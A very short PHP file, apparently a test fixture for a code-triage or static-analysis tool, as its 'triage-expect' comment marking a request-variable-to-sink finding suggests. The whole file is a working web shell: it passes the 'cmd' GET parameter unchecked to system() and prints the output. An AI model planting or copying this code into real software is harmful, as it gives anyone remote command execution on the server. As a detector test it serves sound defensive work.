<?php
// triage-expect: triage_php_request_var_to_sink
$cmd = $_GET['cmd'];
echo "<pre>";
system($cmd);
echo "</pre>";
